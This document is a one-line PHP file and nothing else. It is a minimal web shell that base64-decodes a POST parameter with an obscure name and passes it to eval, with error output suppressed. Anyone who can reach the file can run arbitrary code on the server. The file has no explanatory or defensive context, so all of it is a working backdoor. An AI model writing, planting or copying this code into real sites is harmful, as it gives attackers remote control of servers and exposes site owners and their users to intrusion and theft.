<?php @eval(@base64_decode($_POST['_0x3a1f9c'])); ?>
